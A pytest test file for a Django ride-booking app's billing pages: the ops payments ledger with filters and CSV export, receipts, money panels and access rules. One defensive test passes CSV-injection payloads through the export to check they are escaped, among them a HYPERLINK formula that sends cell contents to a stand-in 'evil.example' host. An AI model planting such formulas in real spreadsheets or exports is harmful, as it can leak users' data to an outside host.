"""Billing pages: the ops payments ledger (filters, CSV, query counts), money panels, receipts."""

import csv
import io
from datetime import timedelta
from http import HTTPStatus

import pytest
from django.urls import reverse
from django.utils import timezone

from billing.models import Payment, PaymentStatus, Transaction
from bookings.models import RideStatus
from tests.billing.fixtures import denied
from tests.factories import CustomerFactory, DriverFactory, PetFactory, make_ride

pytestmark = pytest.mark.django_db

PAYMENTS = reverse("billing_ops:payments")
CSV_URL = reverse("billing_ops:payments_csv")


def ledger_row(ride, kind="capture", status="succeeded", amount=2500, **fields):
    payment = ride.payments.first() or Payment.objects.create(
        ride=ride, status=PaymentStatus.CAPTURED, amount_cents=amount, captured_cents=amount,
        payment_intent_id=f"pi_test_{ride.pk}",
    )  # fmt: skip
    return Transaction.objects.create(
        ride=ride, payment=payment, kind=kind, status=status, amount_cents=amount,
        idempotency_key=f"ride-{ride.pk}-{kind}-{Transaction.objects.count()}", source="ride",
        provider_id=payment.payment_intent_id, **fields,
    )  # fmt: skip


def done_ride(**fields):
    return make_ride(status=RideStatus.COMPLETED, driver=DriverFactory(), **fields)


def rides_with_ledger(n):
    return [ledger_row(done_ride(pet=PetFactory(owner=CustomerFactory()))) for _ in range(n)]


def test_payments_page_lists_the_ledger_with_totals(admin_client):
    ride = done_ride()
    ledger_row(ride, "capture", amount=3000)
    ledger_row(ride, "refund", amount=500, reason="Late pickup")
    ledger_row(ride, "refund", status="failed", amount=200, error="No such charge")

    response = admin_client.get(PAYMENTS)

    html = response.content.decode()
    assert response.status_code == HTTPStatus.OK
    assert "3 ledger rows" in html and "1 failed" in html
    assert "$30.00" in html and "$25.00" in html  # charged, net
    assert "Late pickup" in html and "No such charge" in html
    assert f'href="{reverse("bookings_ops:ride_detail", args=[ride.pk])}"' in html
    assert f'href="{PAYMENTS}"' in html  # the "Payments" link in the ops navigation


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"kind": "refund"}, {"refund"}),
        ({"status": "failed"}, {"fee"}),
        ({"q": "zed@example.com"}, {"fee"}),
    ],
)
def test_payments_filters(admin_client, query, expected):
    ride = done_ride()
    ledger_row(ride, "capture")
    ledger_row(ride, "refund", amount=100)
    other = make_ride(
        pet=PetFactory(owner=CustomerFactory(email="zed@example.com")), status=RideStatus.CANCELLED
    )
    ledger_row(other, "fee", status="failed")

    response = admin_client.get(PAYMENTS, query, HTTP_HX_REQUEST="true")

    html = response.content.decode()
    assert html.lstrip().startswith('<div id="payment-table">')  # only the table for HTMX
    shown = {
        kind for kind in ("capture", "refund", "fee") if f'col-what">{Transaction.Kind(kind).label}' in html
    }
    assert shown == expected


def test_payments_filter_by_ride_number_and_dates(admin_client):
    ride = done_ride()
    row = ledger_row(ride)
    Transaction.objects.filter(pk=row.pk).update(created_at=timezone.now() - timedelta(days=10))
    done_ride()

    found = admin_client.get(PAYMENTS, {"q": f"#{ride.pk}"}).context["page_obj"]
    assert [t.pk for t in found] == [row.pk]
    today = timezone.localdate().isoformat()
    assert list(admin_client.get(PAYMENTS, {"date_from": today}).context["page_obj"]) == []


def test_payments_to_day_is_inclusive_and_stripe_ids_match_whole(admin_client):
    ride = done_ride()
    row = ledger_row(ride)
    today = timezone.localdate().isoformat()

    def listed(**params):
        return [t.pk for t in admin_client.get(PAYMENTS, params).context["page_obj"]]

    assert listed(date_from=today, date_to=today) == [row.pk]
    assert listed(q=row.provider_id) == [row.pk]
    assert listed(q=row.provider_id[:-1]) == []  # not a partial Stripe id
    assert listed(q="#99999999999999999999") == []  # past any ride number


@pytest.mark.parametrize("url", [PAYMENTS, CSV_URL])
def test_bad_payment_filters_are_named_and_list_the_whole_ledger(admin_client, url):
    row = ledger_row(done_ride())
    bad = {"kind": "gift", "date_to": "31/12/2030", "q": "nobody"}
    response = admin_client.get(url, bad)
    assert response.status_code == HTTPStatus.OK
    if url == CSV_URL:
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert [r["provider_id"] for r in rows] == [row.provider_id]
    else:
        html = response.content.decode()
        assert "Select a valid choice. gift is not one of the available choices." in html
        assert "Enter a valid date." in html
        assert [t.pk for t in response.context["page_obj"]] == [row.pk]


def test_payments_page_queries_do_not_grow_with_rows(admin_client, django_assert_max_num_queries):
    rides_with_ledger(5)
    with django_assert_max_num_queries(8) as five:
        admin_client.get(PAYMENTS)
    rides_with_ledger(45)
    with django_assert_max_num_queries(8) as fifty:
        admin_client.get(PAYMENTS)
    assert len(five.captured_queries) == len(fifty.captured_queries)


def test_csv_export_follows_the_filters(admin_client, admin_user):
    ride = done_ride()
    ledger_row(ride, "capture", amount=4200)
    ledger_row(ride, "refund", amount=700, reason="Late, sorry", initiated_by=admin_user)

    response = admin_client.get(CSV_URL, {"kind": "refund"})

    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1
    assert (rows[0]["kind"], rows[0]["amount"], rows[0]["reason"]) == ("refund", "7.00", "Late, sorry")
    assert rows[0]["initiated_by"] == admin_user.email and rows[0]["ride"] == str(ride.pk)


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")',
        ),
        ("+1 555 cmd", "'+1 555 cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTab first", "'\tTab first"),
        ("\rReturn first", "'\rReturn first"),
        ("Dog was late, sorry", "Dog was late, sorry"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(admin_client, admin_user, typed, cell):
    ride = done_ride()
    ledger_row(ride, "refund", amount=700, reason=typed, initiated_by=admin_user)
    response = admin_client.get(CSV_URL, {"kind": "refund"})
    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert row["reason"] == cell
    assert row["amount"] == "7.00" and row["ride"] == str(ride.pk)  # numbers stay numbers


@pytest.mark.parametrize("url", [PAYMENTS, CSV_URL])
@denied("admin")
def test_payments_pages_are_for_operations_only(request, url, client_name, expected):
    assert request.getfixturevalue(client_name).get(url).status_code == expected


# --- Ride pages ------------------------------------------------------------------------------


@pytest.fixture
def charged_ride(customer):
    ride = done_ride(customer=customer)
    ledger_row(ride, "authorization", amount=2973)
    ledger_row(ride, "capture", amount=2973)
    ledger_row(ride, "refund", amount=473)
    Payment.objects.filter(ride=ride).update(card_brand="visa", card_last4="4242", refunded_cents=473)
    return ride


def test_customer_ride_page_shows_payment_and_receipt_link(customer_client, charged_ride):
    html = customer_client.get(reverse("bookings:ride_detail", args=[charged_ride.pk])).content.decode()

    assert "Paid $25.00" in html and "Visa •••• 4242" in html
    assert reverse("billing:receipt", args=[charged_ride.pk]) in html


def test_receipt_shows_fare_charges_and_refunds(customer_client, charged_ride):
    response = customer_client.get(reverse("billing:receipt", args=[charged_ride.pk]))

    html = response.content.decode()
    assert response.status_code == HTTPStatus.OK
    for line in charged_ride.quote["lines"]:
        assert line["label"] in html
    assert "Charged to Visa •••• 4242" in html and "−$4.73" in html
    assert 'data-testid="receipt-total">$25.00<' in html
    assert "data-print" in html


def test_receipt_is_the_customers_own(client, other_customer, driver, charged_ride):
    url = reverse("billing:receipt", args=[charged_ride.pk])
    client.force_login(other_customer)
    assert client.get(url).status_code == HTTPStatus.NOT_FOUND
    client.force_login(driver)
    assert client.get(url).status_code == HTTPStatus.FORBIDDEN


def test_ops_ride_page_shows_the_money_trail_and_refund_form(admin_client, charged_ride):
    html = admin_client.get(reverse("bookings_ops:ride_detail", args=[charged_ride.pk])).content.decode()

    assert 'id="ride-money"' in html and 'aria-label="Money trail"' in html
    assert html.count("money-trail-row") == 3
    assert "up to $25.00" in html  # captured $29.73 − refunded $4.73
    assert reverse("billing_ops:refund", args=[charged_ride.pk]) in html


def test_ops_money_fragment(client, admin_user, customer, charged_ride):
    url = reverse("billing_ops:ride_money", args=[charged_ride.pk])
    client.force_login(admin_user)
    assert client.get(url).content.decode().lstrip().startswith('<section class="card')
    client.force_login(customer)
    assert client.get(url).status_code == HTTPStatus.FORBIDDEN


def test_pending_ride_page_asks_to_pay(customer_client, pending_ride):
    html = customer_client.get(reverse("bookings:ride_detail", args=[pending_ride.pk])).content.decode()

    assert "This booking waits for payment" in html
    assert reverse("billing:checkout", args=[pending_ride.pk]) in html


def test_ride_booked_without_payment_shows_no_payment_panel(customer_client, ride):
    html = customer_client.get(reverse("bookings:ride_detail", args=[ride.pk])).content.decode()

    assert 'id="ride-payment"' not in html
